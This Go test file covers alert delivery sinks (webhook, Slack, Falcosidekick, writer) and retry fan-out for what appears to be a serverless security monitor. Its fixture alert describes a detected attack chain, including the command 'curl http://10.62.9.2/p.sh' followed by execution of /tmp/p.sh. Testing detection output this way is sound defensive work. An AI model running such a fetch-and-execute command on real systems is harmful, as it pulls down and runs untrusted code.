package alert

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

var fastPolicy = RetryPolicy{Attempts: 4, Backoff: 5 * time.Millisecond, MaxBackoff: 20 * time.Millisecond, AttemptTimeout: 200 * time.Millisecond, Timeout: 2 * time.Second}

// flakySink fails its first `failures` sends.
type flakySink struct {
	name      string
	failures  int64
	permanent bool
	calls     atomic.Int64
}

func (f *flakySink) Name() string { return f.name }
func (f *flakySink) Send(context.Context, Alert) error {
	if f.calls.Add(1) <= f.failures {
		if f.permanent {
			return Permanent(errors.New("rejected"))
		}
		return errors.New("unavailable")
	}
	return nil
}

// hangSink ignores its context and never returns until released.
type hangSink struct{ release chan struct{} }

func (h *hangSink) Name() string { return "hang" }
func (h *hangSink) Send(context.Context, Alert) error {
	<-h.release
	return nil
}

type capture struct {
	srv    *httptest.Server
	bodies chan []byte
	hdrs   chan http.Header
}

func newCapture(t *testing.T, status int) *capture {
	c := &capture{bodies: make(chan []byte, 10), hdrs: make(chan http.Header, 10)}
	c.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		if r.Method != http.MethodPost || r.Header.Get("Content-Type") != "application/json" {
			w.WriteHeader(http.StatusMethodNotAllowed)
			return
		}
		c.bodies <- b
		c.hdrs <- r.Header.Clone()
		w.WriteHeader(status)
	}))
	t.Cleanup(c.srv.Close)
	return c
}

func testAlert() Alert {
	v := attackVerdict()
	a := Enrich(&v, t0)
	a.Action = &Action{Kind: ResponseRecycle, Responder: "kubernetes", Status: ActionDone, Target: Target{Function: "resize", Pod: v.Pod}}
	return *a
}

func TestWebhookSink(t *testing.T) {
	c := newCapture(t, http.StatusAccepted)
	s := &WebhookSink{URL: c.srv.URL + "/hook", Token: "s3cret"}
	if err := s.Send(context.Background(), testAlert()); err != nil {
		t.Fatal(err)
	}
	var got Alert
	if err := json.Unmarshal(<-c.bodies, &got); err != nil {
		t.Fatal(err)
	}
	if h := <-c.hdrs; h.Get("Authorization") != "Bearer s3cret" {
		t.Errorf("Authorization %q", h.Get("Authorization"))
	}
	if got.Chain != wantChain || got.Function != "resize" || got.Action == nil || got.Action.Status != ActionDone || !strings.HasPrefix(got.DOT, "digraph") {
		t.Errorf("webhook body %+v", got)
	}
}

func TestSlackSink(t *testing.T) {
	c := newCapture(t, http.StatusOK)
	if err := (&SlackSink{URL: c.srv.URL}).Send(context.Background(), testAlert()); err != nil {
		t.Fatal(err)
	}
	var body map[string]any
	if err := json.Unmarshal(<-c.bodies, &body); err != nil {
		t.Fatal(err)
	}
	text, ok := body["text"].(string)
	if len(body) != 1 || !ok {
		t.Fatalf("slack body %v, want only text", body)
	}
	for _, want := range []string{"`resize.openfaas-fn`", "pod `resize-7d9f-abcde`", "score 0.970", "`node index.js → curl http://10.62.9.2/p.sh", "response: recycle done"} {
		if !strings.Contains(text, want) {
			t.Errorf("slack text lacks %q:\n%s", want, text)
		}
	}
}

// Falco's JSON output (json_output, json_include_output_property,
// json_include_tags_property), as documented by Falco and read by
// Falcosidekick's types.FalcoPayload: time (RFC 3339, ns), rule, priority,
// output, source, tags, hostname, output_fields. Falcosidekick's own uuid
// is added by Falcosidekick and is not part of Falco's output.
var falcoTopLevel = map[string]string{
	"time": "string", "rule": "string", "priority": "string", "output": "string",
	"source": "string", "tags": "array", "hostname": "string", "output_fields": "object",
}

// Falco field names used in output_fields and their JSON types in Falco's
// output: evt.time is the raw timestamp (ns, a number), proc.pid a number,
// the rest strings; a field without a value is null. Anything else must be
// a faasmon.* extra field.
var falcoFields = map[string]string{
	"evt.time": "number", "evt.type": "string", "evt.hostname": "string", "k8s.ns.name": "string", "k8s.pod.name": "string",
	"container.id": "string", "container.full_id": "string", "container.name": "string",
	"proc.name": "string", "proc.cmdline": "string", "proc.pid": "number", "proc.ppid": "number",
	"proc.exepath": "string", "proc.pname": "string", "proc.pcmdline": "string", "fd.name": "string",
	// What the verdict does not carry (see Falco's doc comment).
	"container.image": "string", "container.image.repository": "string", "container.image.digest": "string",
	"user.uid": "null", "user.name": "null",
}

func jsonType(v any) string {
	switch v.(type) {
	case nil:
		return "null"
	case string:
		return "string"
	case float64, json.Number:
		return "number"
	case bool:
		return "bool"
	case []any:
		return "array"
	case map[string]any:
		return "object"
	}
	return "?"
}

func TestFalcosidekickPayload(t *testing.T) {
	c := newCapture(t, http.StatusOK)
	a := testAlert()
	if err := (&FalcosidekickSink{URL: c.srv.URL + "/", Hostname: "node-a"}).Send(context.Background(), a); err != nil {
		t.Fatal(err)
	}
	raw := <-c.bodies
	dec := json.NewDecoder(strings.NewReader(string(raw)))
	dec.UseNumber()
	var m map[string]any
	if err := dec.Decode(&m); err != nil {
		t.Fatal(err)
	}
	for k, typ := range falcoTopLevel {
		if got := jsonType(m[k]); got != typ {
			t.Errorf("%s: %s, want %s", k, got, typ)
		}
	}
	for k := range m {
		if _, ok := falcoTopLevel[k]; !ok {
			t.Errorf("field %q is not in Falco's JSON output", k)
		}
	}
	if !regexp.MustCompile(`^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{9}Z$`).MatchString(m["time"].(string)) {
		t.Errorf("time %q is not Falco's RFC 3339 with nanoseconds in UTC", m["time"])
	}
	if !slices.Contains(FalcoPriorities, m["priority"].(string)) || m["priority"] != "Critical" {
		t.Errorf("priority %v", m["priority"])
	}
	if m["source"] != "syscall" || m["hostname"] != "node-a" {
		t.Errorf("source %v hostname %v", m["source"], m["hostname"])
	}
	// Falco's output line starts with the event time and the priority.
	if !regexp.MustCompile(`^12:00:00\.123456789: Critical `).MatchString(m["output"].(string)) {
		t.Errorf("output %q", m["output"])
	}
	fields := m["output_fields"].(map[string]any)
	for k, typ := range falcoFields {
		v, ok := fields[k]
		if !ok {
			t.Errorf("output_fields lacks %s", k)
			continue
		}
		if got := jsonType(v); got != typ {
			t.Errorf("output_fields[%s] = %v: %s, want %s", k, v, got, typ)
		}
	}
	for k := range fields {
		if _, ok := falcoFields[k]; !ok && !strings.HasPrefix(k, "faasmon.") {
			t.Errorf("output_fields[%s] is neither a Falco field nor faasmon.*", k)
		}
	}
	if n, _ := fields["evt.time"].(json.Number).Int64(); n != a.Time.UnixNano() {
		t.Errorf("evt.time %v, want %d", fields["evt.time"], a.Time.UnixNano())
	}
	for k, want := range map[string]string{"k8s.ns.name": "openfaas-fn", "k8s.pod.name": "resize-7d9f-abcde", "container.id": "c0ffee",
		"container.full_id": "c0ffee", "container.name": "resize", "container.image": "ghcr.io/faasmon/resize",
		"container.image.repository": "ghcr.io/faasmon/resize", "container.image.digest": "sha256:0123abcd", "evt.type": "execve", "proc.pcmdline": "node index.js",
		"proc.name": "p.sh", "proc.cmdline": "/tmp/p.sh", "proc.pname": "node", "fd.name": "/tmp/p.sh", "proc.exepath": "/tmp/p.sh"} {
		if fields[k] != want {
			t.Errorf("output_fields[%s] = %v, want %s", k, fields[k], want)
		}
	}
	if fields["proc.pid"].(json.Number).String() != "102" || fields["proc.ppid"].(json.Number).String() != "100" {
		t.Errorf("proc.pid %v proc.ppid %v", fields["proc.pid"], fields["proc.ppid"])
	}
	// What Falcosidekick does with it: decode into its FalcoPayload and
	// apply its Check (priority, rule, time and output_fields present).
	var sk struct {
		Output       string         `json:"output"`
		Priority     string         `json:"priority"`
		Rule         string         `json:"rule"`
		Time         time.Time      `json:"time"`
		OutputFields map[string]any `json:"output_fields"`
		Source       string         `json:"source"`
		Tags         []string       `json:"tags,omitempty"`
		Hostname     string         `json:"hostname,omitempty"`
	}
	if err := json.Unmarshal(raw, &sk); err != nil {
		t.Fatal(err)
	}
	if sk.Priority == "" || sk.Rule == "" || sk.Time.IsZero() || len(sk.OutputFields) == 0 || !sk.Time.Equal(a.Time) {
		t.Errorf("falcosidekick would reject: %+v", sk)
	}
	// Missing values are null, as in Falco.
	b := a
	b.Pod, b.Process, b.ProcessChain = "", nil, nil
	f := Falco(b, "")
	if f.OutputFields["k8s.pod.name"] != nil || f.OutputFields["proc.pid"] != nil || f.Hostname != "node-a" {
		t.Errorf("missing values: %v", f.OutputFields)
	}
}

func TestHTTPSinkStatus(t *testing.T) {
	tests := []struct {
		status    int
		permanent bool
	}{{400, true}, {401, true}, {404, true}, {429, false}, {500, false}, {503, false}}
	for _, tc := range tests {
		c := newCapture(t, tc.status)
		err := (&WebhookSink{URL: c.srv.URL}).Send(context.Background(), testAlert())
		if err == nil || IsPermanent(err) != tc.permanent {
			t.Errorf("status %d: err %v, permanent %v", tc.status, err, IsPermanent(err))
		}
	}
}

func TestWriterSink(t *testing.T) {
	var b strings.Builder
	s := &WriterSink{W: &b}
	for range 2 {
		if err := s.Send(context.Background(), testAlert()); err != nil {
			t.Fatal(err)
		}
	}
	lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
	if len(lines) != 2 {
		t.Fatalf("%d lines", len(lines))
	}
	for _, l := range lines {
		var a Alert
		if err := json.Unmarshal([]byte(l), &a); err != nil || a.ID == "" {
			t.Errorf("line %q: %v", l, err)
		}
	}
}

// One sink hangs, one fails for good, one fails twice then works, one
// always 500s, one is fine: the fine and the flaky deliver, the others
// fail in bounded time, and nobody waits for the hanging one.
func TestFanoutIsolation(t *testing.T) {
	var hits500 atomic.Int64
	srv500 := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits500.Add(1)
		http.Error(w, "down", http.StatusInternalServerError)
	}))
	defer srv500.Close()
	ok := newCapture(t, http.StatusOK)
	hang := &hangSink{release: make(chan struct{})}
	defer close(hang.release)
	flaky := &flakySink{name: "flaky", failures: 2}
	rejected := &flakySink{name: "rejected", failures: 1 << 30, permanent: true}
	stats := &Stats{}
	f := &Fanout{Sinks: []Sink{hang, &WebhookSink{URL: srv500.URL}, flaky, rejected, &SlackSink{URL: ok.srv.URL}}, Policy: fastPolicy, Stats: stats}

	start := time.Now()
	res := f.Send(context.Background(), testAlert())
	took := time.Since(start)

	want := map[string]struct {
		ok       bool
		attempts int
	}{"hang": {false, 4}, "webhook": {false, 4}, "flaky": {true, 3}, "rejected": {false, 1}, "slack": {true, 1}}
	for _, r := range res {
		w := want[r.Sink]
		if r.OK != w.ok || r.Attempts != w.attempts {
			t.Errorf("%s: ok=%v attempts=%d (%s), want ok=%v attempts=%d", r.Sink, r.OK, r.Attempts, r.Error, w.ok, w.attempts)
		}
	}
	if len(ok.bodies) != 1 {
		t.Errorf("healthy sink got %d alerts", len(ok.bodies))
	}
	// 4 attempts of 200 ms and 3 short waits for the hanging sink.
	if took > fastPolicy.Timeout {
		t.Errorf("fan-out took %v, longer than the per-sink timeout %v", took, fastPolicy.Timeout)
	}
	snap := stats.Snapshot()
	for name, w := range map[string]SinkStatsSnapshot{
		"flaky":    {Attempts: 3, AttemptFailures: 2, Retries: 2, Sent: 1},
		"webhook":  {Attempts: 4, AttemptFailures: 4, Retries: 3, Failed: 1},
		"hang":     {Attempts: 4, AttemptFailures: 4, Retries: 3, Failed: 1},
		"rejected": {Attempts: 1, AttemptFailures: 1, Failed: 1},
		"slack":    {Attempts: 1, Sent: 1},
	} {
		if snap.Sinks[name] != w {
			t.Errorf("stats[%s] = %+v, want %+v", name, snap.Sinks[name], w)
		}
	}
	if hits500.Load() != 4 {
		t.Errorf("500 sink hit %d times", hits500.Load())
	}
	t.Logf("fan-out with a hanging sink took %v", took)
}

func TestRetryTimeBudget(t *testing.T) {
	p := RetryPolicy{Attempts: 100, Backoff: 50 * time.Millisecond, MaxBackoff: 100 * time.Millisecond, AttemptTimeout: 50 * time.Millisecond, Timeout: 400 * time.Millisecond}
	f := &Fanout{Sinks: []Sink{&flakySink{name: "down", failures: 1 << 30}}, Policy: p}
	start := time.Now()
	r := f.Send(context.Background(), testAlert())[0]
	if took := time.Since(start); took > 600*time.Millisecond || r.OK || r.Attempts >= 100 {
		t.Errorf("took %v, %+v", took, r)
	}
}
